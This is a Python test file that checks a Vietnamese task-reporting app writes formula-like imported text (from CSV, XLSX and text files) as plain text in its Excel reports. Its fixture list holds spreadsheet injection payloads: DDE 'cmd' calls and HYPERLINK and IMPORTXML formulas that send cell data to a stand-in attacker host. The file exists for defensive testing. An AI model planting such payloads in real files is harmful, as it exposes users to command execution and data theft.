"""Imported text that looks like a formula stays text in every sheet of the Excel report."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from core.textnorm import nfc
from data.importing.importer import SEED_FILE, import_file
from data.reports.excel import FORMULA_STARTS
from data.reports.files import report_bytes
from data.reports.task_reports import Scope
from data.store import status
from data.store.db import Database
from data.store.models import Agency, Person, Programme, Role, Task, TaskStatus

# What spreadsheet injection payloads look like: formulas, DDE, and the other formula starts.
HOSTILE = [
    '=HYPERLINK("http://evil.example/x","x")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\t=1+2",
    "\r=1+2",
    "=1+2\n=3+4",
]
NOW = datetime(2026, 12, 20, 2, 0, tzinfo=UTC)


def _rows() -> list[list[str]]:
    rows = [["TT", "Nhiệm vụ", "Đơn vị chủ trì", "Đơn vị phối hợp", "Số hiệu"]]
    rows.append(["1", "=SUM(9+9) dịch vụ", "", "", "5/QĐ-UBND"])
    for number, text in enumerate(HOSTILE, start=1):
        lead = f"{text} đơn vị {number}"
        rows.append([f"1.{number}", text, lead, f"=B{number}*2 phối hợp; @{number} tổ", ""])
    return rows


def _csv(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(_rows())
    return path


def _xlsx(path: Path) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    for row in _rows():
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            cell.data_type = "s"  # the file itself carries text, as a user's would
    workbook.save(path)
    return path


def _text(path: Path) -> Path:
    text = SEED_FILE.read_text(encoding="utf-8")
    plain = [h for h in HOSTILE if "|" not in h and "\n" not in h and "\r" not in h]
    titles = [
        "Chuyển đổi nhận thức và hoàn thiện cơ chế, chính sách để thúc đẩy chuyển đổi số. |",
        "Phát triển Chính quyền số. |",
        "Phát triển kinh tế số, xã hội số. |",
    ]
    for title, hostile in zip(titles, plain, strict=False):
        assert title in text
        text = text.replace(title, f"{hostile} |", 1)
    text = text.replace("Sở Thông tin và Truyền thông |", "=1+2 Sở Thông tin |", 1)
    path.write_text(text, encoding="utf-8")
    return path


def _author(session: object) -> Person:
    person = Person(display_name="=1+2", role=Role.ADMIN.value, active=True, created_at=NOW)
    session.add(person)  # type: ignore[attr-defined]
    session.flush()  # type: ignore[attr-defined]
    return person


def _record_hostile_reports(database: Database, decision: str) -> None:
    """Reports typed in chat are data too: results, blockers and proposals."""
    with database.unit_of_work() as session:
        programme = session.scalars(
            select(Programme).where(Programme.decision_number == decision)
        ).one()
        task = session.scalars(select(Task).where(Task.programme_id == programme.id)).first()
        assert task is not None and task.lead_agency is not None
        report = status.Report(TaskStatus.IN_PROGRESS, 30, HOSTILE[0], HOSTILE[1], HOSTILE[2])
        status.record(
            session,
            task=task,
            agency=task.lead_agency,
            year=2026,
            author=_author(session),
            report=report,
            now=NOW,
        )


def _string_cells(content: bytes) -> list[tuple[str, object]]:
    """Every cell of every sheet; fail on any formula."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.append((cell.value, cell))
    return found


def _assert_all_text(content: bytes) -> set[str]:
    values = set()
    for value, cell in _string_cells(content):
        values.add(value)
        if value.startswith(FORMULA_STARTS):
            assert cell.quotePrefix, (cell.coordinate, value)  # type: ignore[attr-defined]
    return values


@pytest.mark.parametrize("kind", ["csv", "xlsx", "txt"])
def test_imported_formulas_stay_text_in_every_sheet(
    db: Database, tmp_path: Path, kind: str
) -> None:
    build = {"csv": _csv, "xlsx": _xlsx, "txt": _text}[kind]
    path = build(tmp_path / f"bang_5_QĐ-UBND.{kind}")
    with db.unit_of_work() as session:
        report = import_file(session, path)
        decision = report.decision_number
    _record_hostile_reports(db, decision)
    with db.session() as session:
        tasks = session.scalars(select(Task)).all()
        titles = {nfc(task.title) for task in tasks}
        leads = {agency.name for agency in session.scalars(select(Agency))}
        content, summary = report_bytes(session, Scope(2026, NOW), "xlsx")
    assert summary.overall.total == len(tasks)
    values = _assert_all_text(content)
    hostile_titles = {title for title in titles if title.startswith(FORMULA_STARTS)}
    assert hostile_titles and hostile_titles <= values  # visible text intact
    assert any(lead.startswith("=") for lead in leads)
    assert any(value.startswith(HOSTILE[0]) or HOSTILE[0] in value for value in values)


_formula_like = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from([*FORMULA_STARTS, "=cmd|' /C calc'!", '=HYPERLINK("']),
    st.text(max_size=40),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(_formula_like, min_size=1, max_size=9))
def test_any_formula_like_text_is_written_as_text(texts: list[str]) -> None:
    from data.reports.excel import _clean, _Writer

    workbook = Workbook(write_only=True)
    writer = _Writer(workbook)
    sheet = writer.sheet("Tổng hợp", [10] * len(texts), freeze=None)
    writer.row(sheet, texts, "dm_cell")
    buffer = io.BytesIO()
    workbook.save(buffer)
    written = [value for value, _ in _string_cells(buffer.getvalue())]
    assert written == [_clean(text) for text in texts if _clean(text)]
    _assert_all_text(buffer.getvalue())


def test_a_title_ending_in_an_apostrophe_makes_a_valid_sheet_name() -> None:
    from data.reports.excel import sheet_title

    assert not sheet_title(1, "Du lịch '").endswith("'")
    assert sheet_title(3, "x" * 40, "9" * 70 + "/QĐ") == "3"


@pytest.mark.parametrize(
    "name", ["$\\frac{1 lỗi $x^", "Dịch vụ $x$", "giá 5$ và 6$", "\\$", "$", "$$", "$\\$"]
)
def test_dollar_signs_in_sector_names_do_not_break_the_chart(
    db: Database, tmp_path: Path, name: str
) -> None:
    rows = [*_rows()[:1], ["1", name, "", "", "5/QĐ-UBND"], ["1.1", "Việc A", "Sở Y tế", "", ""]]
    path = tmp_path / "bang.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    with db.unit_of_work() as session:
        import_file(session, path)
    with db.session() as session:
        content, summary = report_bytes(session, Scope(2026, NOW), "png")
    assert content[:4] == b"\x89PNG" and summary.overall.total == 1
